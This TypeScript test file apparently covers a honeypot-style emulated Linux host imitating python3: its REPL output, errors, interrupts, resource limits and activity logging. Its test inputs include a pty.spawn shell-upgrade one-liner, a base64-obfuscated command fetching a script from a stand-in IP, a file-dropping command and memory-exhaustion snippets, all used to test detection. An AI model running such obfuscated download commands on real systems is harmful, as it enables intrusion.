import { describe, expect, it } from 'vitest'
import { makeHost } from '../harness.ts'
import { login } from '../typist.ts'

describe('python3 on a terminal', () => {
  it('greets, keeps variables, shows what expressions give, and leaves', async () => {
    const typist = await login()
    expect(await typist.type('python3\n', '>>> ')).toContain(
      'Python 3.11.2 (main, Apr 28 2025, 14:11:48) [GCC 12.2.0] on linux\r\nType "help", "copyright", "credits" or "license" for more information.\r\n>>> ',
    )
    await typist.type('x = 5\n', '>>> ')
    expect(await typist.type('x * 2\n', '>>> ')).toBe('x * 2\r\n10\r\n>>> ')
    expect(await typist.type('"a"\n', '>>> ')).toBe('"a"\r\n\'a\'\r\n>>> ')
    expect(await typist.type('None\n', '>>> ')).toBe('None\r\n>>> ')
    expect(await typist.type('def f():\n', '... ')).toBe('def f():\r\n... ')
    await typist.type('    return x\n', '... ')
    expect(await typist.type('\n', '>>> ')).toBe('\r\n>>> ')
    expect(await typist.type('f()\n', '>>> ')).toBe('f()\r\n5\r\n>>> ')
    expect(await typist.type('print(\n', '... ')).toBe('print(\r\n... ')
    expect(await typist.type('1)\n', '>>> ')).toBe('1)\r\n1\r\n>>> ')
    expect(await typist.type('exit\n', '>>> ')).toBe('exit\r\nUse exit() or Ctrl-D (i.e. EOF) to exit\r\n>>> ')
    expect(await typist.type('exit(3)\n', /[#$] $/)).toContain('exit(3)\r\n')
    expect(await typist.type('echo $?\n', /[#$] $/)).toContain('\r\n3\r\n')
  })

  it('shows errors as CPython does and goes on', async () => {
    const typist = await login()
    await typist.type('python3\n', '>>> ')
    expect(await typist.type('1/0\n', '>>> ')).toBe(
      '1/0\r\nTraceback (most recent call last):\r\n  File "<stdin>", line 1, in <module>\r\nZeroDivisionError: division by zero\r\n>>> ',
    )
    expect(await typist.type('x +\n', '>>> ')).toBe(
      'x +\r\n  File "<stdin>", line 1\r\n    x +\r\n       ^\r\nSyntaxError: invalid syntax\r\n>>> ',
    )
    expect(await typist.type('foo\n', '>>> ')).toContain("NameError: name 'foo' is not defined\r\n>>> ")
    await typist.type('\x04', /[#$] $/)
  })

  it('is interrupted by Ctrl-C: a line, a sleep and an endless loop', async () => {
    const typist = await login()
    await typist.type('python3\n', '>>> ')
    expect(await typist.type('12\x03', '>>> ')).toContain('KeyboardInterrupt\r\n>>> ')
    typist.process.stdin.write(Buffer.from('import time; time.sleep(99)\n'))
    await new Promise((resolve) => setTimeout(resolve, 300))
    expect(await typist.type('\x03', '>>> ')).toMatch(
      /\^CTraceback \(most recent call last\):\r\n {2}File "<stdin>", line 1, in <module>\r\nKeyboardInterrupt\r\n>>> $/,
    )
    await typist.type('while True: pass\n', '... ')
    typist.process.stdin.write(Buffer.from('\n'))
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(await typist.type('\x03', '>>> ')).toContain('KeyboardInterrupt\r\n>>> ')
    await typist.type('exit()\n', /[#$] $/)
  })

  it('gives a shell by pty.spawn', async () => {
    const typist = await login()
    await typist.type('python3 -c \'import pty; pty.spawn("/bin/bash")\'\n', /[#$] $/)
    expect(await typist.type('echo $SHLVL\n', /[#$] $/)).toContain('\r\n2\r\n')
    await typist.type('exit\n', /[#$] $/)
  })
})

describe('limits', () => {
  it.each([
    ["x = 'A' * 10**10", 'MemoryError'],
    ['2**10**8', 'MemoryError'],
    ['def f(n): return f(n+1)\nf(0)', 'RecursionError: maximum recursion depth exceeded'],
    ['class A:\n  def __hash__(self):\n    while True: pass\n{A(): 1}', 'RecursionError: maximum recursion depth exceeded in comparison'],
  ])('%s', async (source, last) => {
    const host = makeHost()
    host.host.files('root').write('/tmp/p.py', Buffer.from(source))
    const { stderr, exitCode } = await host.run('python3 /tmp/p.py')
    expect(stderr.trimEnd().split('\n').at(-1)).toBe(last)
    expect(exitCode).toBe(1)
  })

  it('a program without end is stopped by a signal', async () => {
    expect((await makeHost().run("timeout 0.3 python3 -c 'while True: pass'")).exitCode).toBe(124)
  })
})

describe('what is written down', () => {
  it('keeps what a program sends, writes and runs', async () => {
    const host = makeHost()
    await host.run(
      "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHI7ci51cmxvcGVuKCdodHRwOi8vMjAzLjAuMTEzLjkvYS5zaCcp'))\"; python3 -c \"open('/tmp/dropped','w').write('evil')\"",
    )
    expect(JSON.stringify(host.recorder.of('indicator'))).toContain('http://203.0.113.9/a.sh')
    expect(host.recorder.captured.some(({ bytes }) => bytes.toString() === 'evil')).toBe(true)
  })
})
